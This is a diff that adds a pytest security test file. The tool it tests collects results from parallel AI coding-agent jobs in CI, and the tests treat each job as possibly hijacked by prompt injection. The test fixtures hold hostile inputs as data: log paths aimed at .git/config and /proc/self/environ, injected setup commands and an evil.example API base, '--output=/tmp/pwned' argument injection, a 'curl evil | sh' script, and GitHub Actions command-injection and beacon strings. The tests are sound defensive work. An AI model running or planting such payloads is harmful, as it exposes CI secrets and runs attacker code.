@@ -1,0 +1,247 @@
+"""A worker job's results file, branch and logs are an attacker's (a prompt-injected agent):
+``collect`` trusts only what it can check (issue 18). Each test drives a simulated pipeline —
+an origin, one clone per worker job that hands over its results file and a bundle of its
+branch, a collect checkout that fetches the bundles — with crafted results and branches."""
+
+import json
+import os
+import re
+import xml.etree.ElementTree as ET
+
+import pytest
+
+from conftest import git
+from test_leftovers import tool
+
+# A race: one task, three models (the fake agent's behaviours), one check.
+PLAN = ["--task=t", "--models", "fake:write=honest.txt,fake:write=other.txt,fake:write=third.txt",
+        "--check", "test ! -f evil.txt"]
+
+
+class Pipeline:
+    def __init__(self, repo, tmp_path, cli, monkeypatch):
+        self.origin, self.tmp, self.cli, self.mp = repo, tmp_path, cli, monkeypatch
+        self.results = {}
+        for n in (1, 2, 3):  # each job in its own clone, as a CI matrix runs them
+            clone = self.clone(f"job{n}")
+            monkeypatch.chdir(clone)
+            cli(*PLAN, "--only-workers", n, "--results", tmp_path / f"results-{n}.json", "--quiet")
+            self.results[n] = tmp_path / f"results-{n}.json"
+        self.collector = self.clone("collect")
+        monkeypatch.chdir(self.collector)
+        for n in (1, 2, 3):
+            self.fetch(n)
+
+    def clone(self, name):
+        path = self.tmp / name
+        git("clone", "-q", str(self.origin), str(path), cwd=self.tmp)
+        return path
+
+    def fetch(self, n, source=None):
+        """What the collect job does with worker n's bundle: fetch its one branch."""
+        source = source or self.tmp / f"job{n}"
+        git("fetch", "-q", "--no-tags", str(source),
+            f"+refs/heads/architect/parallel-{n}:refs/heads/architect/parallel-{n}", cwd=self.collector)
+
+    def edit(self, n, change):
+        data = json.loads(self.results[n].read_text())
+        change(data, data["results"][0])
+        self.results[n].write_text(json.dumps(data))
+
+    def collect(self, *extra, plan=PLAN, raw=False):
+        args = ["collect", *self.results.values(), *plan, *extra]
+        return self.cli(*args, "--json") if raw else self.cli.json(*args)
+
+
+@pytest.fixture
+def pipeline(repo, tmp_path, cli, monkeypatch):
+    return Pipeline(repo, tmp_path, cli, monkeypatch)
+
+
+def test_an_honest_pipeline_collects_what_a_local_run_gives(pipeline):
+    code, results, err = pipeline.collect()
+    assert code == 0 and "warning" not in err, err
+    assert [(r["status"], r["checks_passed"]) for r in results] == [("success", 1)] * 3
+    assert "checks: as the workers reported them, not run by collect" in err
+
+
+def test_no_path_a_results_file_names_is_opened(pipeline, monkeypatch, tmp_path):
+    """.git/config holds the token actions/checkout persists; the job's environment holds
+    secrets: a results file naming them as its logs gets neither into any report."""
+    git("config", "http.https://github.com/.extraheader", "AUTHORIZATION: basic c2VjcmV0VE9LRU4=",
+        cwd=pipeline.collector)
+    monkeypatch.setenv("JOB_SECRET", "s3cr3t-in-the-environment")
+    pipeline.edit(1, lambda d, r: r.update(log_path=str(pipeline.collector / ".git" / "config"),
+                                           stderr_path="/proc/self/environ",
+                                           worker_log="/proc/self/environ"))
+    summary = tmp_path / "summary.md"
+    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(summary))
+    code, results, err = pipeline.collect("--junit", tmp_path / "j.xml", "--html", tmp_path / "r.html",
+                                          "--results", tmp_path / "all.json")
+    assert code == 0, err
+    written = "".join(p.read_text() for p in (tmp_path / "j.xml", tmp_path / "r.html", summary,
+                                              tmp_path / "all.json")) + err
+    assert "c2VjcmV0VE9LRU4" not in written and "s3cr3t" not in written
+    assert results[0]["log_path"] == "" and results[0]["stderr_path"] == ""
+
+
+def test_nothing_runnable_comes_from_a_results_file(pipeline, tmp_path):
+    """The plan is collect's own: a file's setup, agent command and API base are not taken,
+    and a file of another plan (its own checks) is left out."""
+    ran = tmp_path / "ran"
+    pipeline.edit(1, lambda d, r: d["config"].update(
+        setup=[f"touch {ran}"], agent_cmd=f"sh -c 'touch {ran}'", api_base="http://evil.example"))
+    code, _results, err = pipeline.collect("--recheck")
+    assert code == 0, err
+    saved = json.loads((pipeline.collector / ".git" / "architect-parallel" / "last-run.json").read_text())
+    assert saved["config"]["setup"] == [] and saved["config"]["api_base"] is None
+    assert saved["config"]["checks"] == ["test ! -f evil.txt"]
+    assert not ran.exists()
+    code, _out, err = pipeline.cli("rerun", "--failed")
+    assert code == 2 and "collected from results files" in err
+    # A plan of its own (no checks): another fingerprint, left out.
+    code, _out, err = pipeline.collect(plan=PLAN[:3], raw=True)
+    assert code == 2 and "comes from another plan" in err and "no results file of this plan" in err
+
+
+@pytest.mark.parametrize("lie, why", [
+    (lambda d, r: r.update(checks_passed=5), "its checks are not the plan's"),
+    (lambda d, r: r.update(checks=[{"command": "true", "passed": True, "exit_code": 0}]),
+     "its checks are not the plan's"),
+    (lambda d, r: r["checks"][0].pop("exit_code") or r["checks"][0].update(exit_code="x"),
+     "bad checks"),
+    (lambda d, r: r.update(base_commit="--output=/tmp/pwned"), "its base_commit is not the plan's"),
+    (lambda d, r: r.update(commit="--output=/tmp/pwned"), "its commit is not a full object id"),
+    (lambda d, r: r.update(task="something else"), "its task is not the plan's"),
+    (lambda d, r: r.update(worker_id=99, branch="architect/parallel-99"), "is not in the plan"),
+    (lambda d, r: r.update(attempts=7), "attempts"),
+])
+def test_each_claim_is_bounded_and_checked_against_the_plan(pipeline, tmp_path, lie, why):
+    """One lying record is named and left out; the honest workers still get their table,
+    JUnit and exit code, and no traceback."""
+    pipeline.edit(2, lie)
+    code, results, err = pipeline.collect("--junit", tmp_path / "j.xml", "--require", "all")
+    assert "results-2.json: result 1: " in err and why in err and "left out" in err, err
+    assert [r["worker_id"] for r in results] == [1, 3]
+    assert code == 1 and "2 of 3 worker(s) succeeded; --require all needs 3" in err
+    assert ET.parse(tmp_path / "j.xml").getroot().get("tests") == "2"
+    assert not os.path.exists("/tmp/pwned")
+
+
+def test_the_plan_says_how_many_workers_there_are_and_a_worker_claimed_twice_counts_for_none(
+        pipeline):
+    """A job cannot shrink the plan (workers_total) to pass --require all, nor speak for
+    another worker: a second claim of worker 1 leaves worker 1 out."""
+    pipeline.edit(3, lambda d, r: d.update(workers_total=1))
+    data = json.loads(pipeline.results[3].read_text())
+    data["results"].append(dict(json.loads(pipeline.results[1].read_text())["results"][0]))
+    pipeline.results[3].write_text(json.dumps(data))
+    code, results, err = pipeline.collect("--require", "all")
+    assert "worker 1 has results in 2 places" in err and "all left out" in err
+    assert [r["worker_id"] for r in results] == [2, 3]
+    assert code == 1 and "no results for worker(s) 1 of 3" in err
+
+
+def test_malformed_files_are_named_and_the_others_still_collected(pipeline, tmp_path):
+    deep = tmp_path / "deep.json"
+    deep.write_text("[" * 100000 + "]" * 100000)
+    junk = tmp_path / "junk.json"
+    junk.write_text('{"results": 5}')
+    pipeline.results["deep"], pipeline.results["junk"] = deep, junk
+    code, results, err = pipeline.collect()
+    assert code == 0 and len(results) == 3
+    assert "deep.json: nesting too deep; left out" in err and "junk.json is not a results file" in err
+    assert "Traceback" not in err
+
+
+def _tip(pipeline, n):
+    return git("rev-parse", f"refs/heads/architect/parallel-{n}", cwd=pipeline.collector)
+
+
+def test_what_is_reviewed_is_what_is_merged(pipeline, tmp_path):
+    """A hijacked job claims another worker's honest commit while its own branch holds more
+    (evil.txt): it fails; diff best, the report and merge best show and bring the verified
+    commit of the honest worker; a branch moved after collect is refused."""
+    job2 = tmp_path / "job2"
+    (job2 / ".architect-parallel-2" / "evil.sh").write_text("curl evil | sh\n")
+    git("add", "evil.sh", cwd=job2 / ".architect-parallel-2")
+    git("commit", "-q", "-m", "more", cwd=job2 / ".architect-parallel-2")
+    pipeline.fetch(2)
+    honest = _tip(pipeline, 1)
+    pipeline.edit(2, lambda d, r: r.update(commit=honest, cost=0.0))  # cheaper: would rank first
+    code, results, err = pipeline.collect("--html", tmp_path / "r.html", "--summary", tmp_path / "s.md")
+    assert results[1]["status"] == "failed" and "is not the commit its results name" in results[1]["error"]
+    assert "evil.sh" not in (tmp_path / "s.md").read_text()
+    code, out, err = tool("diff", "best")
+    assert code == 0 and ("honest.txt" in out or "third.txt" in out) and "evil" not in out, err
+    code, _out, err = pipeline.cli("merge", "all")
+    assert code == 0 and not (pipeline.collector / "evil.sh").exists(), err
+    git("reset", "-q", "--hard", "origin/main", cwd=pipeline.collector)
+    git("update-ref", "refs/heads/architect/parallel-1", _tip(pipeline, 2), cwd=pipeline.collector)
+    code, _out, err = pipeline.cli("merge", "1")
+    assert code == 2 and "not at the commit" in err and "that collect verified" in err
+
+
+def test_a_commit_that_leaves_the_base_out_is_not_verified(pipeline, tmp_path):
+    job3 = tmp_path / "job3"
+    root = git("rev-list", "--max-parents=0", "HEAD", cwd=job3)
+    orphan = git("commit-tree", git("rev-parse", "HEAD^{tree}", cwd=job3), "-m", "elsewhere", cwd=job3)
+    git("update-ref", "refs/heads/architect/parallel-3", orphan, cwd=job3)
+    pipeline.fetch(3)
+    pipeline.edit(3, lambda d, r: r.update(commit=orphan))
+    code, results, err = pipeline.collect()
+    assert root and results[2]["status"] == "failed"
+    assert "does not descend from the plan's base" in results[2]["error"]
+
+
+def test_recheck_runs_the_checks_instead_of_believing_them(pipeline, tmp_path):
+    """Worker 2's branch holds evil.txt, which fails the plan's check; its file claims the
+    check passed. --recheck runs it on the verified commit: 0/1, and worker 2 is not best."""
+    worktree = tmp_path / "job2" / ".architect-parallel-2"
+    (worktree / "evil.txt").write_text("x\n")
+    git("add", "evil.txt", cwd=worktree)
+    git("commit", "-q", "-m", "more", cwd=worktree)
+    pipeline.fetch(2)
+    pipeline.edit(2, lambda d, r: r.update(commit=_tip(pipeline, 2)))
+    code, results, err = pipeline.collect()
+    assert results[1]["checks_passed"] == 1  # believed
+    code, results, err = pipeline.collect("--recheck", "--summary", tmp_path / "s.md")
+    assert code == 0, err
+    assert [r["checks_passed"] for r in results] == [1, 0, 1]
+    assert "checks: run by collect on each verified commit (--recheck)" in err
+    assert "Checks: run by collect" in (tmp_path / "s.md").read_text()
+
+
+def test_nothing_a_worker_wrote_is_a_command_to_the_ci_runner_or_markup(pipeline, tmp_path,
+                                                                       monkeypatch):
+    monkeypatch.setenv("GITHUB_ACTIONS", "true")
+    summary = tmp_path / "summary.md"
+    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(summary))
+    pipeline.edit(1, lambda d, r: r.update(
+        status="failed", commit=None, files_modified=["a\n::error::file-pwned", "x##[warning]y"],
+        error="nope\n::stop-commands::token\n  ::add-mask::x ##[error]legacy\x1b]0;title\x07 "
+              "![img](https://evil.example/beacon.png) <img src=x> # Review passed"))
+    code, out, err = pipeline.collect("--quiet", raw=True)
+    code, out2, err2 = pipeline.collect(raw=True)
+    for line in (out + err + out2 + err2).splitlines():
+        assert not line.lstrip().startswith("::") and "##[" not in line, line
+        assert "\x1b" not in line and "\x07" not in line
+    text = summary.read_text()
+    assert "![img]" in text and re.search(r"`[^`\n]*!\[img\]\(https://evil", text)
+    assert "\n# Review passed" not in text and "<img src=x>" not in re.sub(r"`[^`\n]*`", "", text)
+
+
+def test_agents_get_no_ci_credential_and_a_token_in_git_config_is_named(repo, cli, tmp_path,
+                                                                       monkeypatch):
+    for var in ("CI_JOB_TOKEN", "CI_REPOSITORY_URL", "CI_REGISTRY_PASSWORD", "CI_JOB_JWT_V2",
+                "ACTIONS_RUNTIME_TOKEN", "ACTIONS_ID_TOKEN_REQUEST_TOKEN"):
+        monkeypatch.setenv(var, f"leaked-{var}")
+    git("config", "http.https://github.com/.extraheader", "AUTHORIZATION: basic dG9rZW4=", cwd=repo)
+    agent = tmp_path / "env-agent.sh"
+    agent.write_text(f"#!/bin/sh\nenv > {tmp_path}/agent-env\n")
+    agent.chmod(0o755)
+    code, _results, err = cli.json("t", "--agent-cmd", f"{agent} {{task}}", "--workers", "1",
+                                   "--setup", f"env > {tmp_path}/setup-env", "--progress", "none")
+    assert "leaked-" not in (tmp_path / "agent-env").read_text()
+    assert "leaked-" not in (tmp_path / "setup-env").read_text()
+    assert "holds a credential (http.https://github.com/.extraheader) that every agent can read" in err
